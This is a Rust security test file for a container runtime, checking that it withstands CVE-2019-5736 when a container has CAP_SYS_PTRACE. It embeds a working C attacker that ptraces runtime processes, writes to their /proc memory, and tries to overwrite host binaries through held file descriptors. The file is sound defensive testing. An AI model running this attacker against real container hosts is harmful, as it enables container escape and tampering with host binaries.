//! CVE-2019-5736 with `CAP_SYS_PTRACE` in the container (`docker run --cap-add
//! SYS_PTRACE`). Without a user namespace of its own, such a container holds
//! CAP_SYS_PTRACE in the user namespace of the runtime's credentials, so every
//! ptrace access check passes whatever the dumpable flag: any process of the
//! runtime it can see in its pid namespace can be ptraced, its `/proc/PID/mem`
//! written, its `exe` opened and kept (and reopened for writing once the runtime
//! has exited), its `root` and `cwd` followed to the host.
//!
//! The attacker is a static C program in the container with CAP_SYS_PTRACE in all
//! its sets. It scans `/proc` in a loop; for every process whose exe is not one of
//! the container's programs it keeps the exe open (O_PATH and O_RDONLY), looks for a
//! host-only marker file through its `root` and `cwd`, opens its `mem` for writing,
//! ptraces it (PTRACE_SEIZE, and notes whether it has capabilities the attacker
//! lacks). Once the runtime has exited it reopens every exe it holds for writing.
//! The runtime is a private copy of the binary, compared byte for byte afterwards.
//!
//! What may be seen: the container's own programs and the sealed exec trampoline
//! (the stub that waits for `start` or forks the exec'd process), which has the
//! container's root, cwd and credentials. Nothing else.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use super::exe::{embedder_binary, RuntimeCopy, TRAMPOLINE_EXE};
use super::*;

const ATTACKER_C: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static FILE *logf;
static int held[4096];
static int nheld;
static struct stat keys[2048];
static int nkeys;
static const char *marker;
static unsigned long long own_caps;
static struct stat own[2];

static void note(const char *kind, int pid, const char *exe)
{
    fprintf(logf, "%s %d %s\n", kind, pid, exe);
    fflush(logf);
}

static unsigned long long cap_eff(int pid)
{
    char p[64], line[256];
    unsigned long long v = ~0ULL;
    snprintf(p, sizeof p, "/proc/%d/status", pid);
    FILE *f = fopen(p, "r");
    while (f && fgets(line, sizeof line, f))
        if (strncmp(line, "CapEff:", 7) == 0)
            sscanf(line + 7, "%llx", &v);
    if (f)
        fclose(f);
    return v;
}

static void hold(const char *p)
{
    int fd = open(p, O_PATH | O_CLOEXEC);
    struct stat st;
    if (fd < 0)
        return;
    int dup = fstat(fd, &st) != 0;
    /* The process may have exec'd one of the container's own programs meanwhile:
     * those are the container's to write, not the host's. */
    for (int i = 0; !dup && i < 2; i++)
        dup = own[i].st_dev == st.st_dev && own[i].st_ino == st.st_ino;
    for (int i = 0; !dup && i < nkeys; i++)
        dup = keys[i].st_dev == st.st_dev && keys[i].st_ino == st.st_ino;
    if (dup || nheld > 4090) {
        close(fd);
        return;
    }
    keys[nkeys++] = st;
    held[nheld++] = fd;
    fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        /* The process may have exec'd one of the container's own programs between
         * the two opens: keep this one only if it is still the file checked above. */
        struct stat again;
        if (fstat(fd, &again) == 0 && again.st_dev == st.st_dev && again.st_ino == st.st_ino)
            held[nheld++] = fd;
        else
            close(fd);
    }
}

static void probe(int pid)
{
    char p[4200], exe[4096];
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    ssize_t n = readlink(p, exe, sizeof exe - 1);
    if (n < 0)
        return;
    exe[n] = 0;
    if (!strcmp(exe, "/bin/busybox") || !strcmp(exe, "/attacker"))
        return;
    note("SEEN", pid, exe);
    hold(p);
    int fd = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd >= 0) {
        if (write(fd, "PWNED", 5) == 5)
            note("WROTE", pid, exe);
        close(fd);
    }
    snprintf(p, sizeof p, "/proc/%d/root%s", pid, marker);
    if (access(p, F_OK) == 0)
        note("HOSTROOT", pid, exe);
    snprintf(p, sizeof p, "/proc/%d/cwd/HOST_MARKER", pid);
    if (access(p, F_OK) == 0)
        note("HOSTCWD", pid, exe);
    snprintf(p, sizeof p, "/proc/%d/mem", pid);
    fd = open(p, O_RDWR | O_CLOEXEC);
    if (fd >= 0) {
        note("MEM", pid, exe);
        close(fd);
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        int st;
        unsigned long long caps = cap_eff(pid);
        if (caps & ~own_caps)
            note("PRIVILEGED", pid, exe);
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        if (waitpid(pid, &st, __WALL) == pid && !WIFEXITED(st) && !WIFSIGNALED(st))
            ptrace(PTRACE_DETACH, pid, 0, 0);
        note("PTRACED", pid, exe);
    }
}

static void write_held(void)
{
    for (int i = 0; i < nheld; i++) {
        char p[64], t[4096];
        snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
        ssize_t n = readlink(p, t, sizeof t - 1);
        t[n < 0 ? 0 : n] = 0;
        int fd = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd < 0)
            continue;
        if (write(fd, "PWNED", 5) == 5)
            note("WROTE-HELD", 0, t);
        close(fd);
    }
}

int main(int argc, char **argv)
{
    marker = argc > 1 ? argv[1] : "/nonexistent";
    logf = fopen("/tmp/log", "a");
    own_caps = cap_eff(getpid());
    stat("/bin/busybox", &own[0]);
    stat("/attacker", &own[1]);
    signal(SIGCHLD, SIG_IGN);
    close(open("/tmp/ready", O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    int self = getpid();
    while (access("/tmp/stop", F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid > 0 && pid != self)
                probe(pid);
        }
        if (d)
            closedir(d);
    }
    write_held();
    close(open("/tmp/done", O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    pause();
    return 0;
}
"#;

/// The attackers spin on `/proc`: one attack at a time, so that on a 2-core machine
/// the victims' starts are not starved past their timeouts by the other attacks.
fn one_at_a_time() -> std::sync::MutexGuard<'static, ()> {
    static ONE: std::sync::Mutex<()> = std::sync::Mutex::new(());
    ONE.lock().unwrap_or_else(|e| e.into_inner())
}

/// A container whose process is the attacker, with CAP_SYS_PTRACE in every set.
fn attacker_bundle(name: &str, host: &HostDir) -> Bundle {
    let marker = host.path().join("HOST_MARKER");
    let b = Bundle::new(name)
        .own_rootfs()
        .args(&["/attacker", marker.to_str().unwrap()])
        .modify(|v| {
            for set in ["bounding", "effective", "permitted"] {
                let caps = v["process"]["capabilities"][set].as_array_mut().unwrap();
                caps.push("CAP_SYS_PTRACE".into());
            }
        });
    let rootfs = rootfs_of(&b);
    let src = rootfs.join("attacker.c");
    std::fs::write(&src, ATTACKER_C).unwrap();
    let out = Command::new("cc")
        .args(["-static", "-O1", "-o"])
        .arg(rootfs.join("attacker"))
        .arg(&src)
        .output()
        .expect("cc (build-essential) is needed to build the attacker");
    assert!(out.status.success(), "cc: {out:?}");
    b
}

/// What the attacker logged, once it has written through what it held.
fn attacker_log(rootfs: &Path) -> String {
    std::fs::write(rootfs.join("tmp/stop"), "").unwrap();
    wait_for_file(&rootfs.join("tmp/done"), T);
    std::fs::read_to_string(rootfs.join("tmp/log")).unwrap_or_default()
}

/// The attack failed: the binary is intact, and the only process of the runtime
/// the attacker saw is the trampoline, neither privileged nor in the host's root.
#[track_caller]
fn assert_attack_failed(log: &str, bin: &RuntimeCopy) {
    bin.assert_unchanged();
    for line in log.lines() {
        let mut f = line.splitn(3, ' ');
        let (kind, exe) = (f.next().unwrap_or(""), f.nth(1).unwrap_or(""));
        assert!(
            !matches!(
                kind,
                "WROTE" | "WROTE-HELD" | "HOSTROOT" | "HOSTCWD" | "PRIVILEGED"
            ),
            "the container reached the host through a process of the runtime: {line}\n{log}"
        );
        assert_eq!(
            exe, TRAMPOLINE_EXE,
            "the container saw a process running a host binary: {line}\n{log}"
        );
    }
}

/// Start the attacker with `bin`; returns the container and its pid.
fn start_attacker<'a>(
    bin: &RuntimeCopy,
    root: &'a StateRoot,
    bundle: &'a Bundle,
    host: &HostDir,
) -> (Container<'a>, i32) {
    let c = Container::new(root, bundle);
    let mut cmd = bin.command(
        root,
        &[
            "run",
            "--detach",
            "--bundle",
            bundle.path().to_str().unwrap(),
            "--pid-file",
            bundle.pid_file().to_str().unwrap(),
            c.id(),
        ],
    );
    cmd.current_dir(host.path());
    run_cmd(cmd, None, T).assert_success();
    wait_for_file(&rootfs_of(bundle).join("tmp/ready"), T);
    let pid = c.pid().unwrap();
    (c, pid)
}

/// PATH with 5000 missing directories first: the runtime spends longer setting
/// up the process (the window the attacker aims at).
fn long_path() -> String {
    let dirs: Vec<String> = (0..5000).map(|i| format!("/nonexistent{i}")).collect();
    format!("PATH={}:/bin", dirs.join(":"))
}

fn exec_under_attack(spawn: &str) {
    let host = HostDir::new("ptrace-exec");
    let bin = RuntimeCopy::new();
    let root = StateRoot::new();
    let attacker = attacker_bundle("ptrace-exec", &host);
    let (a, _pid) = start_attacker(&bin, &root, &attacker, &host);
    let env = long_path();
    for _ in 0..25 {
        let mut cmd = bin.command(&root, &["exec", "--env", &env, a.id(), "true"]);
        cmd.current_dir(host.path()).env("FASTRUN_SPAWN", spawn);
        run_cmd(cmd, None, T).assert_success();
    }
    let log = attacker_log(&rootfs_of(&attacker));
    assert_attack_failed(&log, &bin);
    drop(a);
}

#[test]
fn cve_2019_5736_ptrace_exec_helper_is_never_the_runtime() {
    let _serial = one_at_a_time();
    exec_under_attack("fork");
}

#[test]
fn cve_2019_5736_ptrace_exec_helper_is_never_the_runtime_shared_vm() {
    let _serial = one_at_a_time();
    exec_under_attack("vm");
}

/// A container started by `bin` (`args` before the bundle: `run`, or `create`
/// then `start`) joins the attacker's pid namespace by path, as containers of a
/// Kubernetes pod with a shared process namespace do.
fn join_under_attack(bin: &RuntimeCopy, spawn: &str, create: bool, rounds: usize) {
    let host = HostDir::new("ptrace-join");
    let root = StateRoot::new();
    let attacker = attacker_bundle("ptrace-join", &host);
    let rootfs = rootfs_of(&attacker);
    let (a, pid) = start_attacker(bin, &root, &attacker, &host);
    let long = long_path();
    for _ in 0..rounds {
        let victim = Bundle::new("ptrace-victim").args(&["true"]).modify(|v| {
            for ns in v["linux"]["namespaces"].as_array_mut().unwrap() {
                if ns["type"] == "pid" {
                    ns["path"] = format!("/proc/{pid}/ns/pid").into();
                }
            }
            let env = v["process"]["env"].as_array_mut().unwrap();
            env.retain(|e| !e.as_str().unwrap().starts_with("PATH="));
            env.push(long.clone().into());
        });
        let v = Container::new(&root, &victim);
        let bundle = victim.path().to_str().unwrap();
        let cmd = |args: &[&str]| {
            let mut c = bin.command(&root, args);
            c.current_dir(host.path()).env("FASTRUN_SPAWN", spawn);
            c
        };
        if create {
            run_cmd(cmd(&["create", "--bundle", bundle, v.id()]), None, T).assert_success();
            // The created init waits for `start` in the attacker's sight.
            std::thread::sleep(std::time::Duration::from_millis(50));
            run_cmd(cmd(&["start", v.id()]), None, T).assert_success();
            v.wait_status("stopped", T);
        } else {
            run_cmd(cmd(&["run", "--bundle", bundle, v.id()]), None, T).assert_success();
        }
        v.delete(true);
        v.assert_no_leftovers();
    }
    let log = attacker_log(&rootfs);
    assert_attack_failed(&log, bin);
    drop(a);
}

#[test]
fn cve_2019_5736_ptrace_run_joining_a_pid_namespace() {
    let _serial = one_at_a_time();
    join_under_attack(&RuntimeCopy::new(), "fork", false, 15);
}

#[test]
fn cve_2019_5736_ptrace_create_joining_a_pid_namespace() {
    let _serial = one_at_a_time();
    join_under_attack(&RuntimeCopy::new(), "vm", true, 10);
}

/// A libfastrun host (bindings/c/embedder.c, linked statically): its own binary is
/// what a visible clone of it would expose.
#[test]
fn cve_2019_5736_ptrace_libfastrun_host() {
    let _serial = one_at_a_time();
    let scratch = TempDir::new("fastrun-sec-embedder-");
    let bin = RuntimeCopy::of(&embedder_binary(scratch.path()));
    join_under_attack(&bin, "vm", false, 10);
}

/// `exec` into a created container: the attacker, exec'd there, sees the init
/// that waits for `start` as pid 1.
#[test]
fn cve_2019_5736_ptrace_created_init_waiting_for_start() {
    let _serial = one_at_a_time();
    let host = HostDir::new("ptrace-created");
    let bin = RuntimeCopy::new();
    let root = StateRoot::new();
    let b = attacker_bundle("ptrace-created", &host).args(&["true"]);
    let rootfs = rootfs_of(&b);
    std::fs::set_permissions(&rootfs, std::fs::Permissions::from_mode(0o755)).unwrap();
    let c = Container::new(&root, &b);
    let mut cmd = bin.command(
        &root,
        &["create", "--bundle", b.path().to_str().unwrap(), c.id()],
    );
    cmd.current_dir(host.path());
    run_cmd(cmd, None, T).assert_success();
    let marker = host.path().join("HOST_MARKER");
    let mut cmd = bin.command(
        &root,
        &[
            "exec",
            "--detach",
            c.id(),
            "/attacker",
            marker.to_str().unwrap(),
        ],
    );
    cmd.current_dir(host.path());
    run_cmd(cmd, None, T).assert_success();
    wait_for_file(&rootfs.join("tmp/ready"), T);
    std::thread::sleep(std::time::Duration::from_millis(300));
    let log = attacker_log(&rootfs);
    assert_attack_failed(&log, &bin);
    assert!(
        log.contains(&format!("SEEN 1 {TRAMPOLINE_EXE}")),
        "the attacker did not see the waiting init at all: {log}"
    );
}

/// The engine in-process, as the shim (containerd-shim-fastrun-v2) and libfastrun
/// hosts run it: `exec` from this multi-threaded test process, with the
/// shared-memory spawn (the shim's large-host path) and the fork-like one. The
/// process the container could reach would run this test binary: it must never
/// be seen, nor anything of the host through it.
#[test]
fn cve_2019_5736_ptrace_engine_in_process_exec() {
    let _serial = one_at_a_time();
    use fastrun_runtime::{Context, ExecOptions, SpawnMode};
    let host = HostDir::new("ptrace-engine");
    let bin = RuntimeCopy::new();
    let root = StateRoot::new();
    let attacker = attacker_bundle("ptrace-engine", &host);
    let (a, _pid) = start_attacker(&bin, &root, &attacker, &host);
    let this = std::fs::read_link("/proc/self/exe").unwrap();
    let opts = ExecOptions {
        args: vec!["true".into()],
        env: vec![long_path()],
        ..Default::default()
    };
    for mode in [SpawnMode::SharedVm, SpawnMode::Fork] {
        let mut ctx = Context::new(root.path());
        ctx.spawn = mode;
        for _ in 0..15 {
            assert_eq!(ctx.exec(a.id(), &opts).expect("exec"), 0);
        }
    }
    let log = attacker_log(&rootfs_of(&attacker));
    assert!(
        !log.contains(this.to_str().unwrap()),
        "the container saw this host process's binary: {log}"
    );
    assert_attack_failed(&log, &bin);
    drop(a);
}

/// Without CAP_SYS_PTRACE, a container process (root with the default
/// capabilities) cannot reach the stub waiting for `start` either: the stub is
/// non-dumpable like the runtime's child before it, so its fds (the sync socket,
/// the exec fifo in the state directory) and memory stay closed.
#[test]
fn the_stub_waiting_for_start_is_closed_to_default_capabilities() {
    let _serial = one_at_a_time();
    let root = StateRoot::new();
    let b = Bundle::new("stub-dumpable").args(&["true"]);
    let c = Container::new(&root, &b);
    c.create().assert_success();
    let pid = c.pid().unwrap();
    assert_eq!(
        std::fs::read_link(format!("/proc/{pid}/exe")).unwrap(),
        Path::new(TRAMPOLINE_EXE)
    );
    let reached = std::thread::spawn(move || {
        super::exe::drop_thread_caps_to_container_default();
        let mut r = Vec::new();
        // Listing the numbers is allowed to the owner; following them is not.
        for e in std::fs::read_dir(format!("/proc/{pid}/fd"))
            .into_iter()
            .flatten()
        {
            let path = e.unwrap().path();
            if std::fs::read_link(&path).is_ok() || std::fs::File::open(&path).is_ok() {
                r.push("fd");
            }
        }
        if std::fs::read_link(format!("/proc/{pid}/exe")).is_ok() {
            r.push("exe");
        }
        if std::fs::File::open(format!("/proc/{pid}/mem")).is_ok() {
            r.push("mem");
        }
        r
    })
    .join()
    .unwrap();
    assert!(
        reached.is_empty(),
        "a container process reached the waiting stub: {reached:?}"
    );
    c.start().assert_success();
    c.wait_status("stopped", T);
    c.delete(false).assert_success();
    c.assert_no_leftovers();
}
